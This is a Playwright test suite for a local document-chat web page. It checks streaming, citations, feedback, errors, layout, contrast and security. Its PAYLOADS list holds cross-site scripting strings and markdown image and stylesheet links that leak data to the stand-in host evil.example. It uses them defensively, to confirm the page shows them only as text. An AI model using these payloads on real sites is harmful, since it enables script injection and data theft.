"""The chat page in headless Chromium, against a real server: what people see, and what must not happen.

Expected structures are worked by hand from the answer's text.
"""

import json
import threading
import time
from contextlib import suppress
from urllib.parse import urlsplit

import pytest

from mygpt.artifacts.corpus import Span
from mygpt.artifacts.feedback import Feedback
from mygpt.artifacts.store import Store
from mygpt.infer.protocols import Answer, Citation
from mygpt.infer.scripted import ScriptedCompleter
from mygpt.serve.served import SourceView
from mygpt.serve.server import address_of, listen
from tests.serve.live_site import Paced, Site, cited_answer, wait_until

SECONDS = 5_000  # of patience for one thing to appear, in milliseconds
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.effectiveDirective + " " + event.blockedURI));
window.alert = () => { window.hacked = "alert"; };
"""


class Tab:
    """A page that notes every request, policy violation and script error."""

    def __init__(self, browser, site: Site, **context):
        self.context = browser.new_context(**{"viewport": {"width": 1200, "height": 800}, "reduced_motion": "reduce", **context})
        self.context.add_init_script(WATCH)
        self.page = self.context.new_page()
        self.page.set_default_timeout(SECONDS)
        self.requests: list[str] = []
        self.errors: list[str] = []
        self.context.on("request", lambda request: self.requests.append(request.url))
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.site = site
        self.page.goto(site.address)
        self.page.wait_for_selector("#welcome:not([hidden]), #key-dialog[open]")

    def ask(self, text: str) -> None:
        self.page.fill("#question", text)
        self.page.keyboard.press("Enter")

    def ask_and_wait(self, text: str) -> None:
        answered = self.page.locator(".tools").count()
        self.ask(text)
        self.page.locator(".tools").nth(answered).wait_for()

    def text(self, selector: str) -> str:
        return self.page.locator(selector).first.inner_text()

    @property
    def strangers(self) -> list[str]:
        """Requests to anyone but the server of the page."""
        return [
            url
            for url in self.requests
            if not url.startswith(("data:", "blob:")) and urlsplit(url).netloc != urlsplit(self.site.address).netloc
        ]


@pytest.fixture
def tab_of(browser):
    tabs = []

    def open_tab(site, **context):
        tabs.append(Tab(browser, site, **context))
        return tabs[-1]

    yield open_tab
    for tab in tabs:
        tab.context.close()
        assert tab.errors == []


def test_streaming_appears_piece_by_piece(site_of, tab_of):
    gates = [threading.Event() for _ in range(3)]
    completer = Paced(lambda c: Answer("One. Two. Three."), piece=6, before_each=lambda c, i: gates[i].wait(10))
    tab = tab_of(site_of(completer))
    tab.ask("count")
    assert tab.text(".waiting") == "Reading your documents" and tab.text(".asked") == "count"
    for index, shown in enumerate(["One. T", "One. Two. Th", "One. Two. Three."]):
        gates[index].set()
        tab.page.locator("article").get_by_text(shown, exact=True).wait_for()
        if index < 2:
            assert tab.page.locator("article").get_attribute("aria-busy") == "true" and tab.page.locator("#stop").is_visible()
    tab.page.locator(".tools").wait_for()
    assert tab.page.locator("article").get_attribute("aria-busy") == "false" and not tab.page.locator("#stop").is_visible()
    assert tab.page.locator("#announcer").text_content() == "One. Two. Three."


@pytest.mark.parametrize("how", ["button", "escape", "new chat"])
def test_stop_really_stops(site_of, tab_of, how):
    completer = Paced(lambda c: Answer("word " * (1 if c.question == "again" else 2000)), before_each=lambda c, i: time.sleep(0.02))
    tab = tab_of(site_of(completer))
    tab.ask("long")
    tab.page.get_by_text("word word").wait_for()
    if how == "button":
        tab.page.click("#stop")
    elif how == "escape":
        tab.page.keyboard.press("Escape")
    else:
        tab.page.click("#new-chat")
    assert completer.closed.wait(2)
    stopped_at = completer.pieces_out
    time.sleep(0.15)
    assert completer.pieces_out == stopped_at < 200
    if how == "new chat":
        assert tab.page.locator("#thread > *").count() == 0 and tab.page.locator("#welcome").is_visible()
    else:
        assert "Stopped" in tab.text(".tools") and tab.text(".text").startswith("word word")
    tab.ask_and_wait("again")
    assert tab.page.locator("article").last.locator(".text").inner_text() == "word"


def test_a_citation_opens_its_passage(site_of, tab_of):
    tab = tab_of(site_of(Paced(lambda c: cited_answer("Yes. Days lapse in March. Sure.", "Days lapse in March."))))
    tab.ask_and_wait("When do days lapse?")
    assert tab.text("article p") == "Yes. Days lapse in March.1 Sure."
    chip = tab.page.locator(".chip")
    assert chip.get_attribute("aria-label") == "Source 1: Holiday policy, page 3" and tab.text(".sources") == "1\nHoliday policy, page 3"
    chip.click()
    tab.page.locator("#panel mark").wait_for()
    assert tab.text("#panel mark") == "Days not taken lapse on 31 March."
    assert tab.text("#panel-title") == "Holiday policy" and tab.text("#panel-where") == "hr/holidays.mdpage 3"
    assert tab.page.locator("#panel-body").text_content() == (
        "Everyone has 28 days of holiday a year.\nDays not taken lapse on 31 March.\nAsk your lead before booking."
    )
    assert chip.get_attribute("aria-expanded") == "true"
    tab.page.keyboard.press("Escape")
    assert not tab.page.locator("#panel").is_visible() and chip.evaluate("node => node === document.activeElement")
    tab.page.locator(".source").click()
    tab.page.locator("#panel mark").wait_for()


def test_a_source_that_is_gone_is_said(site_of, tab_of):
    tab = tab_of(site_of(Paced(lambda c: cited_answer("Days lapse.", "Days lapse.")), source_passage=lambda d, s, e: None))
    tab.ask_and_wait("?")
    tab.page.click(".chip")
    tab.page.get_by_text("not in the documents any more. Ask again").wait_for()


def test_marks_stand_where_the_server_put_them(site_of, tab_of):
    """Offsets count characters; \U0001f389 is one character and two UTF-16 units. Bold and lists are cut across."""
    text = "\U0001f389\U0001f389 First **is fine**. Second is not.\n\n- Third\n- Fourth `x` holds."
    start, end = text.index("Second"), text.index("Second") + len("Second is not.")
    bold_end, last = text.index("fine") + len("fine**."), len(text)
    spans = [
        Citation(0, bold_end, Span("doc1", 0, 5, "page 1"), "", 1.0),
        Citation(50, last, Span("doc1", 6, 9, "page 2"), "", 1.0, path="b.md"),
    ]
    tab = tab_of(site_of(Paced(lambda c: Answer(text, citations=tuple(spans), unsupported=((start, end),)), piece=1)))
    tab.ask_and_wait("?")
    assert tab.page.locator(".text .unsupported").all_inner_texts() == ["Second is not."]
    assert tab.page.locator(".text .unsupported").get_attribute("title") == "Not found in your documents"
    assert tab.text(".text > p") == "\U0001f389\U0001f389 First is fine.1 Second is not."
    assert tab.page.locator(".text li").all_inner_texts() == ["Third", "Fourth x holds.2"]
    assert "not found in your documents" in tab.text(".legend")


def test_abstention_is_shown_as_such(site_of, tab_of):
    tab = tab_of(site_of(Paced(lambda c: Answer("I found nothing on this.", finish_reason="abstained"))))
    tab.ask_and_wait("Mars?")
    assert tab.text(".absent") == "Not in your documents\n\nI found nothing on this."


def test_thumbs_become_a_feedback_artefact(site_of, tab_of):
    tab = tab_of(site := site_of(Paced(lambda c: cited_answer("Days lapse.", "Days lapse."))))
    tab.ask_and_wait("When?")
    tab.page.click("[aria-label='Good answer']")
    tab.page.get_by_text("Thanks, noted on this machine").wait_for()
    [row] = Feedback.open(Store(site.home), "handbook").rows
    assert (row["rating"], row["question"], row["answer"], row["model"]) == (1, "When?", "Days lapse.", "handbook")
    assert row["citations"][0]["path"] == "hr/holidays.md"
    good, bad = tab.page.locator("[aria-label='Good answer']"), tab.page.locator("[aria-label='Bad answer']")
    assert good.get_attribute("aria-pressed") == "true" and good.is_disabled()
    bad.click()  # people change their mind
    wait_until(lambda: Feedback.open(Store(site.home), "handbook").rows[0]["rating"] == -1)
    assert len(Feedback.open(Store(site.home), "handbook").rows) == 1


def test_the_conversation_goes_along_and_a_new_one_starts_empty(site_of, tab_of):
    completer = Paced(lambda c: Answer(f"Answer to {c.question}."))
    tab = tab_of(site_of(completer, suggestions=["First suggestion?", "Second?"]))
    tab.page.get_by_role("button", name="First suggestion?").click()
    tab.page.locator(".tools").wait_for()
    tab.page.fill("#question", "more")
    tab.page.keyboard.press("Shift+Enter")
    tab.page.keyboard.type("lines")
    tab.page.keyboard.press("Enter")
    tab.page.locator(".tools").nth(1).wait_for()
    told = [(m.role, m.content) for m in completer.conversations[1].messages]
    assert told == [("user", "First suggestion?"), ("assistant", "Answer to First suggestion?."), ("user", "more\nlines")]
    tab.page.click("#new-chat")
    tab.ask_and_wait("fresh")
    assert [m.content for m in completer.conversations[2].messages] == ["fresh"]


def test_several_models_are_chosen_from(site_of, tab_of):
    tab = tab_of(site_of(ScriptedCompleter(lambda c: "from the first"), ScriptedCompleter(lambda c: "from the second")))
    tab.page.select_option("#model", "second")
    tab.ask_and_wait("?")
    assert tab.text(".text") == "from the second"


def test_errors_say_what_to_do(site_of, tab_of):
    fails = threading.Event()

    def before_each(conversation, index):
        if fails.is_set():
            raise RuntimeError("broken")

    tab = tab_of(site_of(Paced(lambda c: Answer("Fine."), before_each=before_each), context_tokens=20))
    fails.set()
    tab.ask("hello")
    assert "The server failed (RuntimeError). Try again" in tab.text(".trouble")
    fails.clear()
    tab.page.get_by_role("button", name="Try again").click()
    tab.page.locator(".tools").wait_for()
    assert tab.page.locator(".asked").count() == 1 and tab.text(".text") == "Fine."
    tab.ask("word " * 30)
    assert "maximum context length is 20 tokens" in tab.text(".trouble")
    tab.page.locator(".trouble button").click()
    assert tab.page.locator("#thread > *").count() == 0


def test_a_server_that_is_gone_is_said(site_of, tab_of):
    tab = tab_of(site_of(ScriptedCompleter(lambda c: "x")))
    tab.page.route("**/v1/chat/completions", lambda route: route.abort())
    tab.ask("hello")
    assert "still running in its terminal" in tab.text(".trouble")


def test_a_key_is_asked_for(site_of, tab_of):
    tab = tab_of(site_of(ScriptedCompleter(lambda c: "Hello."), api_key="0123456789abcdef"))
    tab.page.fill("#key", "wrong")
    tab.page.keyboard.press("Enter")
    tab.page.locator("#key-dialog[open]").wait_for()
    tab.page.fill("#key", "0123456789abcdef")
    tab.page.keyboard.press("Enter")
    tab.page.locator("#welcome").wait_for()
    tab.ask_and_wait("hi")
    assert tab.text(".text") == "Hello."


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_fits_a_phone_and_can_be_read(site_of, tab_of, scheme):
    text = "A long answer with `a_very_long_identifier_that_goes_on_and_on_and_on_and_on` in it. Days lapse.\n\n```\n" + "x" * 200 + "\n```"
    tab = tab_of(
        site_of(Paced(lambda c: cited_answer(text, "Days lapse.", unsupported=((0, 5),)))),
        viewport={"width": 380, "height": 700},
        color_scheme=scheme,
    )
    tab.ask_and_wait("x" * 300)
    assert tab.page.evaluate("document.documentElement.scrollWidth") == 380
    assert tab.page.evaluate(
        "[...document.querySelectorAll('.asked, .text, .tools, .sources')].every(n => n.getBoundingClientRect().right <= 380)"
    )
    tab.page.click(".chip")
    tab.page.locator("#panel mark").wait_for()
    assert tab.page.locator("#panel").bounding_box()["width"] == 380
    pairs = [
        ("body", "body"),
        (".hint", "body"),
        (".chip", ".chip"),
        ("#panel-where", "#panel"),
        ("#panel mark", "#panel mark"),
        (".asked", ".asked"),
    ]
    for ink, paper in pairs:  # WCAG 2.2, 1.4.3: at least 4.5 to 1
        colours = [
            tab.page.locator(selector).first.evaluate(f"node => getComputedStyle(node).{what}")
            for selector, what in ((ink, "color"), (paper, "backgroundColor"))
        ]
        assert contrast(*colours) >= 4.5, (scheme, ink, colours)


def contrast(first: str, second: str) -> float:
    """Source: WCAG 2.2, definitions of contrast ratio and relative luminance."""

    def luminance(colour: str) -> float:
        channels = [int(c) / 255 for c in colour[colour.index("(") + 1 : -1].split(",")[:3]]
        linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    bright, dark = sorted((luminance(first), luminance(second)), reverse=True)
    return (bright + 0.05) / (dark + 0.05)


PAYLOADS = [
    "<img src=x onerror=\"window.hacked='img'\">",
    "<script>window.hacked='script'</script>",
    "<svg onload=\"window.hacked='svg'\"></svg>",
    "<iframe srcdoc=\"<script>parent.hacked='iframe'</script>\"></iframe>",
    "[click](javascript:window.hacked='link')",
    "<a href=\"javascript:window.hacked='a'\">a</a>",
    "![leak](http://evil.example/collect?q=secret)",
    "![leak][ref]\n\n[ref]: http://evil.example/ref.png",
    "<http://evil.example/auto> http://evil.example/bare",
    "${window.hacked='template'} {{constructor.constructor('window.hacked=1')()}}",
    "</textarea></title><style>@import url(http://evil.example/x.css)</style><link rel=stylesheet href=http://evil.example/y.css>",
    "`</code><img src=http://evil.example/z.png onerror=alert(1)>`",
    '```html"><img src=http://evil.example/f.png onerror=alert(1)>\n<script>alert(1)</script>\n```',
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | ![x](http://evil.example/t.png) |",
    "# <img src=x onerror=alert(1)>\n> <img src=x onerror=alert(1)>\n\n1. <img src=x onerror=alert(1)>",
]


def test_payloads_in_answer_question_document_and_title_stay_text(site_of, tab_of):
    everything = "\n\n".join(PAYLOADS)
    span = Span(everything[:500], 0, 5, place=PAYLOADS[0])
    citation = Citation(0, len(everything), span, everything, 0.9, path=PAYLOADS[1], title=PAYLOADS[2])
    answer = Answer(everything, citations=(citation,), unsupported=((3, 60),))
    view = SourceView(PAYLOADS[2], PAYLOADS[1], PAYLOADS[0], everything, everything, everything)
    site = site_of(
        Paced(lambda c: answer, piece=7),
        source_passage=lambda d, s, e: view,
        title=PAYLOADS[0],
        suggestions=PAYLOADS,
        context_tokens=10_000,
    )
    tab = tab_of(site)
    assert tab.page.title() == PAYLOADS[0] and tab.text("#title") == PAYLOADS[0]
    assert tab.page.locator("#suggestions button").first.inner_text() == PAYLOADS[0]
    tab.ask_and_wait(everything)
    tab.page.locator(".source").click()
    tab.page.locator("#panel mark").wait_for()
    assert tab.page.locator("#panel mark").text_content() == everything and tab.page.locator(".asked").text_content() == everything
    assert tab.text("#panel-title") == PAYLOADS[2] and PAYLOADS[0] in tab.text("#panel-where")
    assert "<script>window.hacked='script'</script>" in tab.text("article .text")
    made = "#thread :is(img, script, iframe, a, style, link, object, embed, form), #panel :is(img, script, iframe, a, style, link)"
    assert tab.page.locator(made).count() == 0
    for link in tab.page.locator("article").get_by_text("click").all():
        link.click()
    time.sleep(0.2)  # whatever loads or runs late
    assert tab.page.evaluate("[window.hacked ?? null, window.violations]") == [None, []]  # not even tried, so nothing had to be blocked
    assert tab.strangers == [] and tab.page.url.rstrip("/") == site.address


def test_an_error_message_with_a_payload_stays_text(site_of, tab_of):
    tab = tab_of(site_of(ScriptedCompleter(lambda c: "x")))
    error = {"error": {"message": PAYLOADS[0], "code": None}}
    tab.page.route("**/v1/chat/completions", lambda route: route.fulfill(status=500, body=json.dumps(error)))
    tab.ask("?")
    assert PAYLOADS[0] in tab.text(".trouble") and tab.page.evaluate("window.hacked ?? null") is None


def test_the_policy_holds_where_the_page_would_fail(site_of, tab_of):
    """The second wall: were markup ever made from text, nothing would load, run or leave. This also proves that the watch above sees."""
    tab = tab_of(site_of(ScriptedCompleter(lambda c: "x")))
    with pytest.raises(Exception, match="TrustedHTML"):
        tab.page.evaluate("document.body.innerHTML = '<img src=x onerror=alert(1)>'")
    made = tab.page.evaluate(
        """() => new Promise((tell) => setTimeout(() => {  // in a task of its own: what a debugger evaluates is excepted from the policy
            try { tell(Function("return 'ran'")()); } catch (error) { tell(error.name); }
        }))"""
    )
    assert made in ("EvalError", "TypeError")
    with listen("127.0.0.1", 0) as stranger:
        tab.page.evaluate(
            """async (address) => {
            for (const tag of ['img', 'iframe']) {
                const node = document.createElement(tag);
                node.src = address;
                document.body.append(node);
            }
            const node = document.createElement('div');
            node.setAttribute('style', 'color: red');
            document.body.append(node);
            await fetch(address).catch(() => null);
        }""",
            address_of(stranger),
        )
        assert sent_to(stranger) == b""
    blocked = {violation.split(" ")[0] for violation in tab.page.evaluate("window.violations")}
    assert {"img-src", "connect-src", "style-src-attr"} <= blocked and blocked & {"frame-src", "child-src"}


def sent_to(listener) -> bytes:
    """What arrives within a moment. (For a frame, Chromium opens a connection before it asks the policy, and then sends nothing.)"""
    received = b""
    listener.settimeout(0.3)
    with suppress(TimeoutError):
        while True:
            connection, _ = listener.accept()
            with connection, suppress(TimeoutError):
                connection.settimeout(0.3)
                received += connection.recv(1000)
    return received


def test_another_site_can_neither_post_nor_read_nor_frame(site_of, tab_of, browser):
    completer = Paced(lambda c: Answer("secret"))
    site = site_of(completer)
    other = site_of(ScriptedCompleter(lambda c: "x"))  # another port of this machine: same site, other origin
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    page.goto(f"{other.address}/health")
    tried = page.evaluate(
        """async (address) => {
        const body = JSON.stringify({model: 'handbook', messages: [{role: 'user', content: 'leak'}]});
        const answers = [];
        for (const [mode, type] of [['cors', 'application/json'], ['no-cors', 'text/plain']])
            answers.push(await fetch(`${address}/v1/chat/completions`, {method: 'POST', mode, headers: {'Content-Type': type}, body})
                .then((r) => r.text(), (error) => error.name));
        answers.push(await fetch(`${address}/v1/models`).then((r) => r.text(), (error) => error.name));
        return answers;
    }""",
        site.address,
    )
    assert tried == ["TypeError"] * 3  # the browser hands nothing over
    assert completer.events == []
    context.close()


RENDERED = {
    "One\ntwo": "<p>One<br>two</p>",
    "a **b c** *d* _e_ f_g_h `**i**` \\*j\\*": "<p>a <strong>b c</strong> <em>d</em> <em>e</em> f_g_h <code>**i**</code> *j*</p>",
    "- a\n- b\n  - c\n\n3. d\n4. e": '<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul><ol start="3"><li>d</li><li>e</li></ol>',
    "## T\ntext": '<p class="heading" role="heading" aria-level="4">T</p><p>text</p>',
    "```py\na < b\n\n**c**\n```\nd": "<pre><code>a &lt; b\n\n**c**</code></pre><p>d</p>",
    "```\nunclosed": "<pre><code>unclosed</code></pre>",
    "> q\n> r": "<blockquote><p>q<br>r</p></blockquote>",
    "| a | b |\n|---|---|\n| 1 | |": '<div class="scroll"><table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td></td></tr></table></div>',
    "[a](http://b.example/c) ![d](e)": '<p>a <span class="aside">(http://b.example/c)</span> <span class="aside">[image: d]</span></p>',
    "2 * 3 * 4 and ** x ** and a*b": "<p>2 * 3 * 4 and ** x ** and a*b</p>",
    "": "",
    "\n\n \n": "",
    "**": "<p>**</p>",
}


def test_markdown(site_of, tab_of):
    tab = tab_of(site_of(ScriptedCompleter(lambda c: "x")))
    rendered = tab.page.evaluate(
        """async (texts) => {
        const { render } = await import('/static/markdown.js');
        return texts.map((text) => { const box = document.createElement('div'); box.append(render(text)); return box.innerHTML; });
    }""",
        list(RENDERED),
    )
    assert dict(zip(RENDERED, rendered, strict=True)) == RENDERED


def test_markdown_keeps_every_letter_and_every_chip_of_any_text(site_of, tab_of):
    """Over 400 texts thrown together from markup: nothing is lost, nothing hangs, each chip is placed once and in order."""
    tab = tab_of(site_of(ScriptedCompleter(lambda c: "x")))
    result = tab.page.evaluate(
        """async () => {
        const { render } = await import('/static/markdown.js');
        const marks = ['**', '*', '`', '```', '\\n', '\\n\\n', '- ', '1. ', '  ', '| ', '|---|', '# ', '> ', '![', '_', '\\\\'];
        const pieces = [...marks, 'ab', 'cd.', ' ', '[x](y)'];
        let seed = 7;
        const random = (n) => { seed = (seed * 1103515245 + 12345) % 2147483648; return Math.floor(seed / 65536) % n; };
        const wrong = [];
        for (let round = 0; round < 400; round += 1) {
            const text = Array.from({ length: 30 }, () => pieces[random(pieces.length)]).join('');
            const chip = (value) => Object.assign(document.createElement('button'), { className: 'chip', value });
            const chips = [5, 20, 30, text.length].map((at, i) => ({ at: Math.min(at, text.length), node: chip(i) }));
            const box = document.createElement('div');
            box.append(render(text, { unsupported: [[10, 30]], chips }));
            const placed = [...box.querySelectorAll('.chip')].map((node) => Number(node.value));
            const letters = (s) => (s.match(/ab|cd/g) ?? []).length;
            if (text.trim() && placed.join() !== chips.map((_, i) => i).join()) wrong.push(['chips', text, placed]);
            const fences = /```|~~~/.test(text);  // the word behind an opening fence is not shown
            if (!fences && letters(box.textContent) !== letters(text)) wrong.push(['letters', text, box.textContent]);
        }
        return wrong;
    }"""
    )
    assert result == []
